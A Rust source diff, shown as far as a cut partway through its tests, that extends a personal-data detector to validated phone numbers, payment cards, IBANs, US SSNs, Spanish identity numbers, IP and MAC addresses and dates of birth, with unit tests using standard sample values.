@@ -1,7 +1,16 @@
 //! Personal-data detection.
 //!
-//! First version: e-mail addresses. Validated detectors for phones, cards, IBANs, national
-//! identifiers and addresses join here.
+//! Each entity is a linear-time candidate regex plus a validator, so that what reaches a
+//! finding is a value that could really be one: payment cards pass Luhn and an issuer
+//! range, IBANs the per-country length and mod-97, Spanish NIF/NIE/CIF their check
+//! character, US SSNs the issued ranges, IP addresses the standard library's parsers.
+//! Entities with no checksum (phone numbers, dates of birth) need a strong national format
+//! or a context word nearby ("tel.", "móvil", "born", "fecha de nacimiento"). The score
+//! says how strong the evidence is: a checksum-validated value scores higher than a
+//! well-formed one, and context raises it.
+//!
+//! Candidates of every type are collected first and overlaps are resolved by score, so a
+//! valid IBAN is not also reported as a phone number.
 
 use super::{Detections, Detector};
 use crate::engine::Context;
@@ -9,18 +18,185 @@ use crate::error::GuardError;
 use crate::normalize::Normalized;
 use rampart_core::{Finding, FindingKind};
 use regex::Regex;
+use std::net::{Ipv4Addr, Ipv6Addr};
+
+/// Below this score a candidate is dropped rather than reported.
+const MIN_SCORE: f32 = 0.5;
 
 #[derive(Debug)]
 pub struct PiiDetector {
     email: Regex,
+    phone: Regex,
+    card: Regex,
+    iban: Regex,
+    ssn: Regex,
+    es_nif: Regex,
+    es_nie: Regex,
+    es_cif: Regex,
+    ipv4: Regex,
+    ipv6: Regex,
+    mac: Regex,
+    date: Regex,
 }
+
+/// A candidate finding in byte offsets of the normalised text.
+#[derive(Debug, Clone, Copy)]
+struct Candidate {
+    start: usize,
+    end: usize,
+    entity: &'static str,
+    score: f32,
+}
+
+fn re(pattern: &str) -> Regex {
+    Regex::new(pattern).expect("static regex")
+}
+
+const MONTHS: &str = "jan(?:uary)?|feb(?:ruary)?|mar(?:ch)?|apr(?:il)?|may|jun(?:e)?|jul(?:y)?|aug(?:ust)?|sep(?:t(?:ember)?)?|oct(?:ober)?|nov(?:ember)?|dec(?:ember)?|enero|febrero|marzo|abril|mayo|junio|julio|agosto|septiembre|setiembre|octubre|noviembre|diciembre";
 
 impl PiiDetector {
     pub fn new() -> Self {
-        let email =
-            Regex::new(r"\b[A-Za-z0-9._%+-]{1,64}@(?:[A-Za-z0-9-]{1,63}\.){1,8}[A-Za-z]{2,24}\b")
-                .expect("static regex");
-        PiiDetector { email }
+        let date = format!(
+            r"(?i)\b(?:\d{{1,2}}[/.\-]\d{{1,2}}[/.\-](?:19|20)\d{{2}}|(?:19|20)\d{{2}}-\d{{1,2}}-\d{{1,2}}|\d{{1,2}}(?:st|nd|rd|th|º)?\s+(?:de\s+)?(?:{MONTHS})\.?,?\s+(?:del?\s+)?(?:19|20)\d{{2}}|(?:{MONTHS})\.?\s+\d{{1,2}}(?:st|nd|rd|th)?,?\s+(?:19|20)\d{{2}})\b"
+        );
+        PiiDetector {
+            email: re(
+                r"\b[A-Za-z0-9](?:[A-Za-z0-9._%+-]{0,63})@(?:[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?\.){1,8}[A-Za-z]{2,24}\b",
+            ),
+            phone: re(
+                r"(?:\+[ \t]?|\(|\b)\d[\d \t().\-/]{4,24}\d(?:[ \t]?(?:x|ext\.?|extension)[ \t]?\d{1,6})?\b",
+            ),
+            card: re(r"\b\d(?:[ \-]?\d){11,18}\b"),
+            iban: re(r"\b[A-Za-z]{2}\d{2}(?:[ \-]?[A-Za-z0-9]){11,32}\b"),
+            ssn: re(r"\b\d{3}[- ]?\d{2}[- ]?\d{4}\b"),
+            es_nif: re(r"\b\d{2}\.?\d{3}\.?\d{3}[ \-]?[A-Za-z]\b"),
+            es_nie: re(r"\b[XYZxyz][ \-]?\d{7}[ \-]?[A-Za-z]\b"),
+            es_cif: re(r"\b[ABCDEFGHJNPQRSUVW][ \-]?\d{7}[0-9A-J]\b"),
+            ipv4: re(r"\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b"),
+            ipv6: re(r"(?i)(?:[0-9a-f]{0,4}:){2,7}(?:[0-9a-f]{1,4}|:|\d{1,3}(?:\.\d{1,3}){3})"),
+            mac: re(
+                r"(?i)\b(?:[0-9a-f]{2}(?::[0-9a-f]{2}){5}|[0-9a-f]{2}(?:-[0-9a-f]{2}){5}|[0-9a-f]{4}\.[0-9a-f]{4}\.[0-9a-f]{4})\b",
+            ),
+            date: re(&date),
+        }
+    }
+
+    fn candidates(&self, text: &str, out: &mut Vec<Candidate>) {
+        let bytes = text.as_bytes();
+        let has_digit = bytes.iter().any(u8::is_ascii_digit);
+        if bytes.contains(&b'@') {
+            for m in self.email.find_iter(text) {
+                if email_ok(m.as_str()) {
+                    out.push(cand(m.start(), m.end(), "EMAIL_ADDRESS", 0.95));
+                }
+            }
+        }
+        if bytes.contains(&b':') {
+            for m in self.ipv6.find_iter(text) {
+                let s = m.as_str();
+                if s.len() >= 6
+                    && ipv6_ok(text, m.start(), m.end())
+                    && s.parse::<Ipv6Addr>().is_ok()
+                {
+                    out.push(cand(m.start(), m.end(), "IP_ADDRESS", 0.9));
+                }
+            }
+        }
+        if bytes.contains(&b':') || bytes.contains(&b'-') || bytes.contains(&b'.') {
+            for m in self.mac.find_iter(text) {
+                if !adjacent(text, m.start(), m.end(), |c| c == ':' || c == '-') {
+                    out.push(cand(m.start(), m.end(), "MAC_ADDRESS", 0.85));
+                }
+            }
+        }
+        if !has_digit {
+            return;
+        }
+        for m in self.iban.find_iter(text) {
+            if let Some(end) = iban_end(m.as_str()) {
+                out.push(cand(m.start(), m.start() + end, "IBAN_CODE", 0.98));
+            }
+        }
+        for m in self.card.find_iter(text) {
+            let digits = digits_of(m.as_str());
+            if let Some(score) = card_score(&digits, m.as_str()) {
+                let ctx = context_before(text, m.start(), CARD_WORDS);
+                out.push(cand(
+                    m.start(),
+                    m.end(),
+                    "CREDIT_CARD",
+                    if ctx { 0.99 } else { score },
+                ));
+            }
+        }
+        for m in self.ssn.find_iter(text) {
+            let s = m.as_str();
+            let digits = digits_of(s);
+            if !ssn_valid(&digits) || adjacent(text, m.start(), m.end(), |c| c == '-') {
+                continue;
+            }
+            let dashed = s.as_bytes().get(3) == Some(&b'-') && s.as_bytes().get(6) == Some(&b'-');
+            let ctx = context_before(text, m.start(), SSN_WORDS);
+            let score = match (dashed, ctx) {
+                (_, true) => 0.95,
+                (true, false) => 0.85,
+                (false, false) => continue,
+            };
+            out.push(cand(m.start(), m.end(), "US_SSN", score));
+        }
+        for m in self.es_nif.find_iter(text) {
+            let s = m.as_str();
+            let digits = digits_of(s);
+            let letter = s.chars().last().map(|c| c.to_ascii_uppercase());
+            if let (Ok(n), Some(l)) = (digits.parse::<u32>(), letter)
+                && dni_letter(n) == l
+            {
+                out.push(cand(m.start(), m.end(), "ES_NIF", 0.95));
+            }
+        }
+        for m in self.es_nie.find_iter(text) {
+            if nie_valid(m.as_str()) {
+                out.push(cand(m.start(), m.end(), "ES_NIE", 0.95));
+            }
+        }
+        for m in self.es_cif.find_iter(text) {
+            if cif_valid(m.as_str()) {
+                let ctx = context_before(text, m.start(), CIF_WORDS);
+                out.push(cand(
+                    m.start(),
+                    m.end(),
+                    "ES_CIF",
+                    if ctx { 0.95 } else { 0.85 },
+                ));
+            }
+        }
+        for m in self.ipv4.find_iter(text) {
+            if m.as_str().parse::<Ipv4Addr>().is_ok()
+                && !adjacent(text, m.start(), m.end(), |c| c == '.' || c.is_ascii_digit())
+                && !context_before_n(text, m.start(), 12, VERSION_WORDS)
+            {
+                out.push(cand(m.start(), m.end(), "IP_ADDRESS", 0.85));
+            }
+        }
+        for m in self.phone.find_iter(text) {
+            if let Some(score) = phone_score(text, m.start(), m.end()) {
+                out.push(cand(m.start(), m.end(), "PHONE_NUMBER", score));
+            }
+        }
+        for m in self.date.find_iter(text) {
+            if date_valid(m.as_str()) && context_before_n(text, m.start(), 48, DOB_WORDS) {
+                out.push(cand(m.start(), m.end(), "DATE_OF_BIRTH", 0.85));
+            }
+        }
+    }
+}
+
+fn cand(start: usize, end: usize, entity: &'static str, score: f32) -> Candidate {
+    Candidate {
+        start,
+        end,
+        entity,
+        score,
     }
 }
 
@@ -35,11 +211,731 @@ impl Detector for PiiDetector {
         _ctx: &Context,
         out: &mut Detections,
     ) -> Result<(), GuardError> {
-        for m in self.email.find_iter(text.text()) {
-            let (s, e) = text.span_to_original(m.start(), m.end());
+        let mut found = Vec::new();
+        self.candidates(text.text(), &mut found);
+        for c in resolve_overlaps(found) {
+            let (s, e) = text.span_to_original(c.start, c.end);
             out.findings
-                .push(Finding::new(FindingKind::Pii, "EMAIL_ADDRESS", s, e, 0.95));
+                .push(Finding::new(FindingKind::Pii, c.entity, s, e, c.score));
         }
         Ok(())
+    }
+}
+
+/// Keep the best-scored candidate of each group of overlapping ones (the longer on a tie).
+fn resolve_overlaps(mut found: Vec<Candidate>) -> Vec<Candidate> {
+    found.retain(|c| c.score >= MIN_SCORE && c.end > c.start);
+    found.sort_by(|a, b| a.start.cmp(&b.start).then(b.end.cmp(&a.end)));
+    let mut kept: Vec<Candidate> = Vec::with_capacity(found.len());
+    for c in found {
+        match kept.last_mut() {
+            Some(last) if c.start < last.end => {
+                let better = c.score > last.score
+                    || (c.score == last.score && c.end - c.start > last.end - last.start);
+                if better {
+                    *last = c;
+                }
+            }
+            _ => kept.push(c),
+        }
+    }
+    kept
+}
+
+fn digits_of(s: &str) -> String {
+    s.chars().filter(char::is_ascii_digit).collect()
+}
+
+/// Whether the character just before `start` or just after `end` satisfies `f`.
+fn adjacent(text: &str, start: usize, end: usize, f: impl Fn(char) -> bool) -> bool {
+    let before = text[..start].chars().next_back();
+    let after = text[end..].chars().next();
+    before.is_some_and(&f) || after.is_some_and(&f)
+}
+
+const CARD_WORDS: &[&str] = &[
+    "card",
+    "tarjeta",
+    "visa",
+    "mastercard",
+    "amex",
+    "credit",
+    "crédito",
+    "debit",
+    "débito",
+    "cc#",
+    "pan",
+    "carte",
+    "karte",
+];
+const SSN_WORDS: &[&str] = &[
+    "ssn",
+    "social security",
+    "social sec",
+    "ss#",
+    "seguro social",
+];
+const CIF_WORDS: &[&str] = &[
+    "cif",
+    "nif",
+    "empresa",
+    "sociedad",
+    "company",
+    "razón social",
+];
+const VERSION_WORDS: &[&str] = &["version", "versión", "v.", "release", "build"];
+const DOB_WORDS: &[&str] = &[
+    "born",
+    "birth",
+    "dob",
+    "d.o.b",
+    "birthday",
+    "nacido",
+    "nacida",
+    "nacimiento",
+    "f. nac",
+    "fecha nac",
+    "cumpleaños",
+    "né le",
+    "née le",
+    "geboren",
+    "geburtsdatum",
+];
+const PHONE_WORDS: &[&str] = &[
+    "phone",
+    "tel",
+    "móvil",
+    "movil",
+    "mobile",
+    "cell",
+    "call",
+    "llam",
+    "llám",
+    "tél",
+    "fax",
+    "desk",
+    "office",
+    "whatsapp",
+    "contact",
+    "número",
+    "numero",
+    "number",
+    "message",
+    "sms",
+    "text me",
+    "answering",
+    "reach",
+    "dial",
+    "handy",
+    "portable",
+    "téléphone",
+    "fijo",
+    "celular",
+];
+const PHONE_WORDS_AFTER: &[&str] = &[
+    "office", "fax", "mobile", "cell", "home", "work", "phone", "móvil",
+];
+
+/// Whether one of `words` occurs (case-insensitively) in the 40 bytes before `start`.
+fn context_before(text: &str, start: usize, words: &[&str]) -> bool {
+    context_before_n(text, start, 40, words)
+}
+
+/// Context never crosses a paragraph break: that is also the separator before decoded
+/// segments, and a word at the end of the text must not lend its context to a value
+/// decoded from elsewhere (nor may a stream's chunking change what is found).
+fn context_before_n(text: &str, start: usize, window: usize, words: &[&str]) -> bool {
+    let mut from = start.saturating_sub(window);
+    while !text.is_char_boundary(from) {
+        from += 1;
+    }
+    let window = &text[from..start];
+    let window = window.rfind("\n\n").map_or(window, |i| &window[i + 2..]);
+    contains_any(window, words)
+}
+
+fn context_after(text: &str, end: usize, words: &[&str]) -> bool {
+    let mut to = (end + 16).min(text.len());
+    while !text.is_char_boundary(to) {
+        to -= 1;
+    }
+    let window = &text[end..to];
+    let window = window.find("\n\n").map_or(window, |i| &window[..i]);
+    contains_any(window, words)
+}
+
+fn contains_any(window: &str, words: &[&str]) -> bool {
+    let lower = window.to_lowercase();
+    words.iter().any(|w| lower.contains(w))
+}
+
+fn email_ok(s: &str) -> bool {
+    let (local, domain) = s.split_once('@').unwrap_or((s, ""));
+    let tld = domain.rsplit('.').next().unwrap_or("");
+    // File names such as `logo@2x.png` share the shape.
+    const FILE_EXTENSIONS: &[&str] = &["png", "jpg", "jpeg", "gif", "svg", "webp", "js", "css"];
+    !local.contains("..")
+        && !local.ends_with('.')
+        && !FILE_EXTENSIONS.contains(&tld.to_ascii_lowercase().as_str())
+}
+
+fn ipv6_ok(text: &str, start: usize, end: usize) -> bool {
+    let s = &text[start..end];
+    let colons = s.bytes().filter(|&b| b == b':').count();
+    let hex = s.bytes().filter(u8::is_ascii_hexdigit).count();
+    // `std::io::Read`-like paths and clock times are not addresses.
+    (colons == 7 || s.contains("::"))
+        && hex >= 4
+        && !adjacent(text, start, end, |c| c.is_ascii_alphanumeric() || c == ':')
+}
+
+/// The byte length of the valid IBAN at the start of `s`, if there is one.
+fn iban_end(s: &str) -> Option<usize> {
+    let country = s.get(..2)?.to_ascii_uppercase();
+    let want = iban_length(&country)?;
+    let mut alnum = 0;
+    let mut end = 0;
+    let mut compact = String::with_capacity(want);
+    for (i, c) in s.char_indices() {
+        if c.is_ascii_alphanumeric() {
+            alnum += 1;
+            compact.push(c.to_ascii_uppercase());
+            if alnum == want {
+                end = i + 1;
+                break;
+            }
+        }
+    }
+    if alnum != want || s[end..].starts_with(|c: char| c.is_ascii_alphanumeric()) {
+        return None;
+    }
+    // The check digits are digits and the BBAN is not one repeated character.
+    iban_mod97(&compact).then_some(end)
+}
+
+fn iban_mod97(compact: &str) -> bool {
+    let (head, tail) = compact.split_at(4);
+    let mut rem: u32 = 0;
+    for c in tail.chars().chain(head.chars()) {
+        let v = match c {
+            '0'..='9' => c as u32 - '0' as u32,
+            'A'..='Z' => c as u32 - 'A' as u32 + 10,
+            _ => return false,
+        };
+        rem = if v >= 10 {
+            (rem * 100 + v) % 97
+        } else {
+            (rem * 10 + v) % 97
+        };
+    }
+    rem == 1
+}
+
+/// IBAN length per country (SWIFT IBAN registry).
+fn iban_length(country: &str) -> Option<usize> {
+    Some(match country {
+        "NO" => 15,
+        "BE" => 16,
+        "DK" | "FI" | "FO" | "GL" | "NL" | "SD" | "FK" => 18,
+        "MK" | "SI" => 19,
+        "AT" | "BA" | "EE" | "KZ" | "LT" | "LU" | "XK" | "MN" => 20,
+        "CH" | "HR" | "LI" | "LV" => 21,
+        "BG" | "BH" | "CR" | "DE" | "GB" | "GE" | "IE" | "ME" | "RS" | "VA" => 22,
+        "AE" | "GI" | "IL" | "IQ" | "TL" | "OM" | "SO" => 23,
+        "AD" | "CZ" | "ES" | "MD" | "PK" | "RO" | "SA" | "SE" | "SK" | "TN" | "VG" => 24,
+        "LY" | "PT" | "ST" => 25,
+        "IS" | "TR" => 26,
+        "FR" | "GR" | "IT" | "MC" | "MR" | "SM" | "BI" | "DJ" => 27,
+        "AL" | "AZ" | "BY" | "CY" | "DO" | "GT" | "HU" | "LB" | "PL" | "SV" | "NI" | "HN" => 28,
+        "BR" | "EG" | "PS" | "QA" | "UA" => 29,
+        "JO" | "KW" | "MU" | "YE" => 30,
+        "MT" | "SC" => 31,
+        "LC" => 32,
+        "RU" => 33,
+        _ => return None,
+    })
+}
+
+fn luhn(digits: &str) -> bool {
+    let mut sum = 0u32;
+    for (i, c) in digits.bytes().rev().enumerate() {
+        let mut d = (c - b'0') as u32;
+        if i % 2 == 1 {
+            d *= 2;
+            if d > 9 {
+                d -= 9;
+            }
+        }
+        sum += d;
+    }
+    sum.is_multiple_of(10)
+}
+
+/// The score of a Luhn-valid number in a known issuer range with that issuer's length.
+fn card_score(digits: &str, raw: &str) -> Option<f32> {
+    let len = digits.len();
+    if !(13..=19).contains(&len) || !luhn(digits) {
+        return None;
+    }
+    // Separators, if any, must group the digits the way cards are printed (4-4-4-4,
+    // 4-6-5): a single `-` inside a long number is an order or a reference.
+    let groups: Vec<usize> = raw
+        .split([' ', '-'])
+        .filter(|g| !g.is_empty())
+        .map(str::len)
+        .collect();
+    if groups.len() > 1 && !(groups.iter().all(|&g| (3..=6).contains(&g)) && groups.len() >= 3) {
+        return None;
+    }
+    if digits.bytes().all(|b| b == digits.as_bytes()[0]) {
+        return None;
+    }
+    let p = |n: usize| digits[..n].parse::<u32>().unwrap_or(0);
+    let known = match digits.as_bytes()[0] {
+        b'4' => matches!(len, 13 | 16 | 19),
+        b'5' => (51..=55).contains(&p(2)) && len == 16 || (56..=59).contains(&p(2)),
+        b'2' => (2221..=2720).contains(&p(4)) && len == 16 || p(4) == 2131 && len == 15,
+        b'3' => {
+            (matches!(p(2), 34 | 37) && len == 15)
+                || ((300..=305).contains(&p(3)) || matches!(p(2), 36 | 38 | 39)) && len >= 14
+                || (3528..=3589).contains(&p(4)) && len >= 16
+        }
+        b'6' => {
+            p(4) == 6011 || (644..=649).contains(&p(3)) || p(2) == 65 || p(2) == 62 || p(2) == 67
+        }
+        b'1' => p(4) == 1800 && len == 15,
+        _ => false,
+    };
+    known.then_some(if groups.len() > 1 { 0.95 } else { 0.9 })
+}
+
+/// US SSN rules: no area 000, 666 or 900-999, no group 00, no serial 0000, and not one
+/// of the numbers printed in advertisements and documentation.
+fn ssn_valid(digits: &str) -> bool {
+    if digits.len() != 9 {
+        return false;
+    }
+    let area: u32 = digits[..3].parse().unwrap_or(0);
+    let group: u32 = digits[3..5].parse().unwrap_or(0);
+    let serial: u32 = digits[5..].parse().unwrap_or(0);
+    area != 0
+        && area != 666
+        && area < 900
+        && group != 0
+        && serial != 0
+        && !matches!(
+            digits,
+            "078051120" | "219099999" | "123456789" | "111111111"
+        )
+}
+
+fn dni_letter(n: u32) -> char {
+    const LETTERS: &[u8; 23] = b"TRWAGMYFPDXBNJZSQVHLCKE";
+    LETTERS[(n % 23) as usize] as char
+}
+
+fn nie_valid(s: &str) -> bool {
+    let chars: Vec<char> = s
+        .chars()
+        .filter(|c| c.is_ascii_alphanumeric())
+        .map(|c| c.to_ascii_uppercase())
+        .collect();
+    if chars.len() != 9 {
+        return false;
+    }
+    let prefix = match chars[0] {
+        'X' => 0,
+        'Y' => 1,
+        'Z' => 2,
+        _ => return false,
+    };
+    let number: String = chars[1..8].iter().collect();
+    match number.parse::<u32>() {
+        Ok(n) => dni_letter(prefix * 10_000_000 + n) == chars[8],
+        Err(_) => false,
+    }
+}
+
+fn cif_valid(s: &str) -> bool {
+    let chars: Vec<char> = s.chars().filter(|c| c.is_ascii_alphanumeric()).collect();
+    if chars.len() != 9 {
+        return false;
+    }
+    let org = chars[0];
+    let digits: Vec<u32> = chars[1..8].iter().filter_map(|c| c.to_digit(10)).collect();
+    if digits.len() != 7 {
+        return false;
+    }
+    let mut sum = 0;
+    for (i, d) in digits.iter().enumerate() {
+        if i % 2 == 0 {
+            let x = d * 2;
+            sum += x / 10 + x % 10;
+        } else {
+            sum += d;
+        }
+    }
+    let control = (10 - sum % 10) % 10;
+    let letter = b"JABCDEFGHI"[control as usize] as char;
+    let got = chars[8];
+    match org {
+        // Bodies that must use a letter.
+        'P' | 'Q' | 'R' | 'S' | 'N' | 'W' => got == letter,
+        // Companies that must use a digit.
+        'A' | 'B' | 'E' | 'H' => got.to_digit(10) == Some(control),
+        _ => got == letter || got.to_digit(10) == Some(control),
+    }
+}
+
+/// Day, month and year form a real calendar date, in either day/month order.
+fn date_valid(s: &str) -> bool {
+    let nums: Vec<u32> = s
+        .split(|c: char| !c.is_ascii_digit())
+        .filter(|p| !p.is_empty())
+        .filter_map(|p| p.parse().ok())
+        .collect();
+    let ok = |d: u32, m: u32| (1..=31).contains(&d) && (1..=12).contains(&m);
+    match nums.as_slice() {
+        [y, m, d] if *y >= 1900 => ok(*d, *m),
+        [a, b, y] if *y >= 1900 => ok(*a, *b) || ok(*b, *a),
+        // Textual month: the day is the small number.
+        [d, y] | [y, d] if *y >= 1900 => (1..=31).contains(d),
+        _ => false,
+    }
+}
+
+/// The score of a phone-number candidate, or `None` if it does not look like one.
+fn phone_score(text: &str, start: usize, end: usize) -> Option<f32> {
+    let s = &text[start..end];
+    // Extensions are not counted as number digits.
+    let number = s
+        .find(['x', 'e'])
+        .map_or(s, |p| s[..p].trim_end_matches([' ', '\t']));
+    let digits = digits_of(number);
+    let international = number.starts_with('+');
+    if !(7..=15).contains(&digits.len())
+        || adjacent(text, start, end, |c| c.is_ascii_alphanumeric())
+    {
+        return None;
+    }
+    // Directly after `.`, `,`, `/` or `-`: part of a longer number, a path or a decimal.
+    if text[..start].ends_with(['.', ',', '/', '-']) {
+        return None;
+    }
+    if looks_like_date_or_time(number) || number.contains("..") || number.contains("--") {
+        return None;
+    }
+    let groups: Vec<&str> = number
+        .split(|c: char| !c.is_ascii_digit())
+        .filter(|g| !g.is_empty())
+        .collect();
+    // Version numbers, decimals and amounts: one dot and short tails, or `1.234.567`.
+    let dots = number.matches('.').count();
+    if dots == 1
+        || (dots >= 2 && groups.iter().skip(1).all(|g| g.len() == 3) && !number.contains(' '))
+    {
+        return None;
+    }
+    // Single digits in the middle are lists or tables, not phone numbers (except the
+    // `(0)` trunk marker and a leading country code).
+    let singles = groups
+        .iter()
+        .enumerate()
+        .filter(|(i, g)| g.len() == 1 && *i != 0 && !(number.contains("(0)") && **g == "0"))
+        .count();
+    if singles > 0 {
+        return None;
+    }
+    let context =
+        context_before(text, start, PHONE_WORDS) || context_after(text, end, PHONE_WORDS_AFTER);
+    let unseparated = groups.len() == 1;
+    let strong = international && digits.len() >= 8 || strong_national_format(number);
+    let score = match (strong, context, unseparated) {
+        (true, true, _) => 0.95,
+        (true, false, _) => 0.8,
+        (false, true, _) => 0.75,
+        (false, false, _) => return None,
+    };
+    Some(score)
+}
+
+fn looks_like_date_or_time(s: &str) -> bool {
+    let groups: Vec<&str> = s
+        .split(|c: char| !c.is_ascii_digit())
+        .filter(|g| !g.is_empty())
+        .collect();
+    let b = s.as_bytes();
+    // 2024-05-01, 2024/05/01, 01/05/2024, 01-05-2024 (possibly followed by an hour).
+    let year_first = groups.len() >= 3
+        && groups[0].len() == 4
+        && (groups[0].starts_with("19") || groups[0].starts_with("20"))
+        && groups[1].len() <= 2
+        && groups[2].len() <= 2;
+    let year_last = groups.len() >= 3
+        && groups[0].len() <= 2
+        && groups[1].len() <= 2
+        && groups[2].len() == 4
+        && (groups[2].starts_with("19") || groups[2].starts_with("20"))
+        && s.contains(['/', '.', '-']);
+    year_first
+        || year_last
+        || b.contains(&b'/') && groups.len() == 3 && groups.iter().all(|g| g.len() <= 4)
+}
+
+/// National formats that are phone numbers without any context.
+fn strong_national_format(n: &str) -> bool {
+    static FORMATS: std::sync::OnceLock<Regex> = std::sync::OnceLock::new();
+    let re = FORMATS.get_or_init(|| {
+        re(r"(?x)^(?:
+            # US / NANP: (202) 555-0143, 202-555-0143, 202.555.0143, 001-202-555-0143, 1-202-555-0143
+            (?:00?1[\x20.\-])?\(?[2-9]\d{2}\)?[\x20.\-]?[2-9]\d{2}[\x20.\-]\d{4}
+            # Spain: 612 345 678, 612 34 56 78, 91 123 45 67, 912 345 678
+            | [6789]\d{2}\x20\d{3}\x20\d{3}
+            | [6789]\d{2}\x20\d{2}\x20\d{2}\x20\d{2}
+            | [89]\d\x20\d{3}\x20\d{2}\x20\d{2}
+            # UK: 07700 900123, 07700 900 123, 020 7946 0958, 0161 496 0000
+            | 07\d{3}\x20?\d{3}\x20?\d{3}
+            | 0\d{2,4}\x20\d{3,4}\x20\d{3,4}
+            # France / Belgium / Switzerland: 01 23 45 67 89, 01.23.45.67.89, 0xx xxx xx xx
+            | 0\d(?:[\x20.\-]\d{2}){4}
+            | 0\d{2,3}\x20\d{2,3}\x20\d{2}\x20\d{2}
+            # Germany: 030 12345678, 030/1234567, 0171 1234567
+            | 0\d{2,4}[\x20/\-]\d{5,8}
+            # Mexico: 55 1234 5678
+            | \d{2}\x20\d{4}\x20\d{4}
+            # Australia and others in brackets: (02) 1234 5678, (08) 8747 6301
+            | \(0?\d{1,2}\)\x20?\d{4}[\x20\-]?\d{4}
+        )$")
+    });
+    re.is_match(n)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rampart_core::Role;
+
+    fn found(s: &str) -> Vec<(String, String)> {
+        let n = Normalized::new(s);
+        let mut out = Detections::default();
+        PiiDetector::new()
+            .detect(&n, &Context::input(Role::User), &mut out)
+            .unwrap();
+        out.findings
+            .iter()
+            .map(|f| {
+                (
+                    f.entity.clone(),
+                    s.chars().skip(f.start).take(f.end - f.start).collect(),
+                )
+            })
+            .collect()
+    }
+
+    fn types(s: &str) -> Vec<String> {
+        found(s).into_iter().map(|(t, _)| t).collect()
+    }
+
+    fn one(s: &str, entity: &str, value: &str) {
+        let f = found(s);
+        assert_eq!(f, vec![(entity.to_owned(), value.to_owned())], "in {s:?}");
+    }
+
+    #[test]
+    fn emails_and_file_names() {
+        one(
+            "write to ana.gomez+x@correo.example.es today",
+            "EMAIL_ADDRESS",
+            "ana.gomez+x@correo.example.es",
+        );
+        assert!(types("see logo@2x.png").is_empty());
+    }
+
+    #[test]
+    fn zero_width_inside_an_email_maps_to_the_original_span() {
+        one(
+            "mail an\u{200B}a@example.es",
+            "EMAIL_ADDRESS",
+            "an\u{200B}a@example.es",
+        );
+    }
+
+    #[test]
+    fn cards_need_luhn_and_an_issuer_range() {
+        one(
+            "card 4111 1111 1111 1111 ok",
+            "CREDIT_CARD",
+            "4111 1111 1111 1111",
+        );
+        one("pay 378282246310005", "CREDIT_CARD", "378282246310005");
+        one(
+            "mc 5555-5555-5555-4444",
+            "CREDIT_CARD",
+            "5555-5555-5555-4444",
+        );
+        // Luhn fails.
+        assert!(types("card 4111 1111 1111 1112").is_empty());
+        // Luhn passes, no issuer starts with 9.
+        assert!(types("order 9000000000000008").is_empty());
+        // Luhn-valid Visa digits, but grouped like an order reference.
+        assert!(!types("ref 41111111-11111111").contains(&"CREDIT_CARD".to_owned()));
+    }
+
+    #[test]
+    fn ibans_need_country_length_and_mod97() {
+        one(
+            "IBAN ES91 2100 0418 4502 0005 1332.",
+            "IBAN_CODE",
+            "ES91 2100 0418 4502 0005 1332",
+        );
+        one(
+            "to gb82west12345698765432 now",
+            "IBAN_CODE",
+            "gb82west12345698765432",
+        );
+        one(
+            "DE89370400440532013000",
+            "IBAN_CODE",
+            "DE89370400440532013000",
+        );
+        assert!(
+            types("ES92 2100 0418 4502 0005 1332")
+                .iter()
+                .all(|t| t != "IBAN_CODE")
+        );
+        // Right checksum shape but wrong length for the country.
+        assert!(
+            types("ES91 2100 0418 4502 0005 13")
+                .iter()
+                .all(|t| t != "IBAN_CODE")
+        );
+    }
+
+    #[test]
+    fn ssn_ranges() {
+        one("SSN 536-90-4399", "US_SSN", "536-90-4399");
+        one("ssn: 536904399", "US_SSN", "536904399");
+        for bad in [
+            "000-12-3456",
+            "666-12-3456",
+            "912-12-3456",
+            "536-00-4399",
+            "536-90-0000",
+            "078-05-1120",
+        ] {
+            assert!(
+                types(&format!("SSN {bad}")).iter().all(|t| t != "US_SSN"),
+                "{bad}"
+            );
+        }
+        // Nine bare digits without context are not an SSN.
+        assert!(types("order 536904399").iter().all(|t| t != "US_SSN"));
+    }
+
+    #[test]
+    fn spanish_identifiers_check_letters() {
+        one("DNI 12345678Z", "ES_NIF", "12345678Z");
+        one("mi NIF es 12.345.678-z", "ES_NIF", "12.345.678-z");
+        assert!(types("DNI 12345678A").is_empty());
+        one("NIE X1234567L", "ES_NIE", "X1234567L");
+        one("NIE Y-1234567-X", "ES_NIE", "Y-1234567-X");
+        assert!(types("NIE X1234567A").is_empty());
+        one("CIF B12345674", "ES_CIF", "B12345674");
+        one("CIF Q2826000H", "ES_CIF", "Q2826000H");
+        assert!(types("CIF B12345675").is_empty());
+        // A must-use-letter body with a digit check character.
+        assert!(types("CIF Q28260008").is_empty());
+    }
+
+    #[test]
+    fn ip_and_mac_addresses_but_not_versions() {
+        one("from 192.168.1.20 at noon", "IP_ADDRESS", "192.168.1.20");
+        one(
+            "host 2001:db8::8a2e:370:7334 up",
+            "IP_ADDRESS",
+            "2001:db8::8a2e:370:7334",
+        );
+        one("nic 00:1A:2B:3C:4D:5E", "MAC_ADDRESS", "00:1A:2B:3C:4D:5E");
+        assert!(types("version 1.2.3.4 released").is_empty());
+        assert!(types("oid 1.3.6.1.4.1 and 300.1.2.3").is_empty());
+        assert!(types("use std::io::Read; at 12:30:45").is_empty());
+    }
+
+    #[test]
+    fn phones_in_national_and_international_formats() {
+        one("call +34 612 345 678", "PHONE_NUMBER", "+34 612 345 678");
+        one("Llámame al 612 34 56 78", "PHONE_NUMBER", "612 34 56 78");
+        one(
+            "office (202) 555-0143 x12",
+            "PHONE_NUMBER",
+            "(202) 555-0143 x12",
+        );
+        one("UK 07700 900123 please", "PHONE_NUMBER", "07700 900123");
+        one("tél 01 23 45 67 89", "PHONE_NUMBER", "01 23 45 67 89");
+        one("Tel.: 030 12345678", "PHONE_NUMBER", "030 12345678");
+        one("Fax: 9498777106", "PHONE_NUMBER", "9498777106");
+        one("+52 55 1234 5678", "PHONE_NUMBER", "+52 55 1234 5678");
+    }
+
+    #[test]
+    fn numbers_that_are_not_phones() {
+        for s in [
+            "order 1234567890 shipped",
+            "at 2024-05-01 12:30:00",
+            "on 01/05/2024",
+            "total 1.234.567 EUR",
+            "pi is 3.14159265",
+            "uuid 123e4567-e89b-12d3-a456-426614174000",
+            "sha 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
